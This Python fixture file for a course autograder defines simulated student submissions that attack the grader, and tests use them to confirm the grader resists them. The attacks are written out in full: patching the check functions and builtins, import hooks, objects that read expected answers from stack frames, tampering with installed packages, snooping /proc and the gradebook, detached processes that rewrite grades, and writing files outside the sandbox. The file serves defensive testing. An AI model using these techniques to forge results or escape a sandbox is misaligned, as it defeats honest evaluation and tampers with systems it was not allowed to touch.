"""Submissions that try to forge their grade or harm the grader, for assignment 03.

Each attack is the answer code of one student: the attack itself, then stub answers
that earn nothing honestly (every function returns a wrong answer of the right shape, so
a test whose checks were switched off runs to its end; or an object built to fool a check).
``tests/test_grading_attacks.py`` grades them through both entry points and
checks that they earn nothing and leave no trace; the exercises README lists them.

The code uses placeholders filled in by ``attack_source``: ``{marker}`` (a string the
test looks for in process lists and file names), ``{port}`` (a loopback TCP listener of
the test), ``{unix}`` (a Unix socket of the test in the host's /tmp), ``{outside}`` (a
folder of the test outside the course), ``{course}``, ``{repo}``, ``{package}`` (the
installed dlcourse) and ``{elsewhere}`` (another checkout's copy of the source).
"""

from __future__ import annotations

A3 = "03_conv_arithmetic"

STUBS = '''
def output_size(n, k, s=1, p=0):
    return 1

def conv_params(c_in, c_out, k):
    return 1

def fc_params(n_in, n_out):
    return 1

def conv_macs(c_in, c_out, k, h_out, w_out):
    return 1

def fc_macs(n_in, n_out):
    return 1

def walk(input_shape, layers):
    return [((48, 30, 30), 1, 1) for _ in layers]

def memory_bytes(input_shape, rows, bytes_per_value=4, with_params=True):
    return 1

def training_cost(macs_per_sample, batch_size, dataset_size, epochs):
    return 1, 1, 1

def dataset_size(images, crops_per_image, transforms):
    return 1

def next_logit(o, target, c, lr):
    return 1.0
'''

ATTACKS = {
    # The tests' helpers replaced: reload does nothing and every check passes.
    "reload": '''
import importlib, dlcourse.grading.checks as checks
importlib.reload = lambda module, *a, **k: module
for name in ("check_close", "check_true", "check_shape"):
    setattr(checks, name, lambda *a, **k: None)
''',
    # The checks module's class swapped for one whose every attribute is a no-op.
    "swap_class": '''
import sys, types, dlcourse.grading.checks
class Agreeable(types.ModuleType):
    def __getattribute__(self, name):
        if name.startswith("check"):
            return lambda *a, **k: None
        return types.ModuleType.__getattribute__(self, name)
sys.modules["dlcourse.grading.checks"].__class__ = Agreeable
''',
    # An import hook: builtins.__import__ and sys.meta_path hand out a fake checks module.
    "import_hook": '''
import builtins, sys, types, importlib.abc, importlib.util
fake = types.ModuleType("dlcourse.grading.checks")
for name in ("check_close", "check_true", "check_shape"):
    setattr(fake, name, lambda *a, **k: None)
original_import = builtins.__import__
def sneaky_import(name, globals=None, locals=None, fromlist=(), level=0):
    if name.startswith("dlcourse.grading.checks") or (name == "dlcourse" and fromlist and "checks" in fromlist):
        sys.modules["dlcourse.grading.checks"] = fake
        return fake if name != "dlcourse" else types.SimpleNamespace(checks=fake)
    return original_import(name, globals, locals, fromlist, level)
builtins.__import__ = sneaky_import
class Finder(importlib.abc.MetaPathFinder, importlib.abc.Loader):
    def find_spec(self, name, path, target=None):
        return importlib.util.spec_from_loader(name, self) if name == "dlcourse.grading.checks" else None
    def create_module(self, spec):
        return fake
    def exec_module(self, module):
        pass
sys.meta_path.insert(0, Finder())
sys.modules["dlcourse.grading.checks"] = fake
''',
    # Builtins the checks might use, patched to agree with everything.
    "builtins": '''
import builtins, math
builtins.abs = lambda x: 0
builtins.isinstance = lambda *a: True
builtins.round = lambda *a, **k: 0
math.isfinite = lambda x: True
''',
    # Answers that are objects reading the expected value from the checking function's frame.
    "frame_reader": '''
import sys
class Mirror:
    def _expected(self):
        frame = sys._getframe(1)
        while frame is not None:
            for key in ("expected", "want", "w", "truth"):
                if key in frame.f_locals and not isinstance(frame.f_locals[key], Mirror):
                    return frame.f_locals[key]
            frame = frame.f_back
        return 0
    def __eq__(self, other):
        return True
    def __float__(self):
        return float(self._expected())
    def __int__(self):
        return int(self._expected())
    def __index__(self):
        return int(self._expected())
    def __array__(self, dtype=None, copy=None):
        import numpy as np
        return np.asarray(self._expected(), dtype=dtype)
    def __iter__(self):
        return iter([Mirror(), Mirror(), Mirror()])
    def __len__(self):
        return 7
    def __getitem__(self, index):
        return Mirror()
STUBS_RETURN = Mirror()
''',
    # Every later cell, the tests included, runs as empty code.
    "input_transformer": '''
get_ipython().input_transformers_cleanup.append(lambda lines: [])
''',
    # Appending no-op checks to the installed package (and another copy, if one is found).
    "tamper_package": '''
import glob, site, dlcourse.grading.kernel_agent
targets = [dlcourse.grading.kernel_agent.__file__, "{package}/checks.py", "{package}/grading/checks.py",
           "{package}/grading/kernel_agent.py"]
targets += glob.glob("/opt/**/*.py", recursive=True)
targets += [f"{folder}/dlcourse/grading/checks.py" for folder in site.getsitepackages()]
for path in set(targets):
    try:
        with open(path, "a") as handle:
            handle.write("\\ncheck_close = check_true = check_shape = lambda *a, **k: None  # {marker}\\n")
        print("WROTE", path)
    except OSError as error:
        print("DENIED", path, type(error).__name__)
''',
    # Reading the course through /proc (the grader's working folder), the gradebook and other checkouts.
    "snoop": '''
import glob, os
found = []
for pattern in ["/proc/*/cwd/source/*/*", "/proc/*/cwd/gradebook.db", "/proc/*/root{course}/source/*/*",
                "{course}/source/*/*", "{course}/gradebook.db", "{course}/submitted/*/*/*",
                "{repo}/exercises/source/*/*", "{repo}/.git/HEAD", "{elsewhere}/*", "/root/*", "/home/*/*"]:
    for path in glob.glob(pattern):
        try:
            with open(path, "rb") as handle:
                found.append((path, handle.read(200)))
        except OSError:
            pass
print("PIDS", sorted(int(p) for p in os.listdir("/proc") if p.isdigit()))
for path, head in found:
    print("READ", path, head)
''',
    # A detached process that outlives the kernel and waits to rewrite the grades.
    "outlive": '''
import os, subprocess, sys
code = ("import time, os\\n"
        "for _ in range(600):\\n"
        "    time.sleep(0.5)\\n"
        "    for path in ['{course}/grades.csv', '{course}/gradebook.db', '{outside}/outlived-{marker}']:\\n"
        "        try:\\n"
        "            open(path, 'a').write('forged')\\n"
        "        except OSError:\\n"
        "            pass\\n")
subprocess.Popen([sys.executable, "-c", code, "{marker}"], start_new_session=True,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", code, "{marker}"])
    os._exit(0)
''',
    # The network: a loopback listener of the test, and a Unix socket in the host's /tmp.
    "network": '''
import socket
for family, address in [(socket.AF_INET, ("127.0.0.1", {port})), (socket.AF_UNIX, "{unix}")]:
    try:
        connection = socket.socket(family, socket.SOCK_STREAM)
        connection.settimeout(2)
        connection.connect(address)
        connection.sendall(b"{marker}")
        print("CONNECTED", address)
    except OSError as error:
        print("REFUSED", address, type(error).__name__)
''',
    # dlcourse.calc reached through getattr and importlib, although the assignment forbids it.
    "calc_getattr": '''
import importlib
import dlcourse
calc = getattr(dlcourse, "calc", None) or importlib.import_module("dlcourse" + ".calc")
def output_size(n, k, s=1, p=0):
    return calc.conv_output_size(n, k, s, p)
def dataset_size(images, crops_per_image, transforms):
    return getattr(importlib.import_module("dlcourse.calc"), "augmented_count")(images, crops_per_image, transforms)
''',
    # Files written everywhere the sandbox might reach: $HOME, /tmp, the course, the repository.
    "write_outside": '''
import os
for folder in ["{outside}", "/tmp", os.path.expanduser("~"), "/root", "{course}", "{course}/source", "{repo}",
               "{package}", "/work", "/", "/etc", "/usr/lib"]:
    path = os.path.join(folder, "wrote-{marker}")
    try:
        with open(path, "w") as handle:
            handle.write("x")
        print("WROTE", path)
    except OSError as error:
        print("DENIED", path, type(error).__name__)
''',
}

# An attack whose answers must come from its own code keeps those definitions after the stubs.
KEEPS_ITS_ANSWERS = {"calc_getattr"}


def attack_source(kind: str, **places: str) -> str:
    """The answer code of one attacking student: the attack, then the stub answers."""
    attack = ATTACKS[kind]
    for key, value in places.items():
        attack = attack.replace("{" + key + "}", str(value))
    stubs = STUBS
    if kind == "frame_reader":
        stubs = "\n".join("    return STUBS_RETURN" if line.startswith("    return") else line
                          for line in STUBS.splitlines())
    if kind in KEEPS_ITS_ANSWERS:
        return stubs + "\n" + attack
    return attack + "\n" + stubs
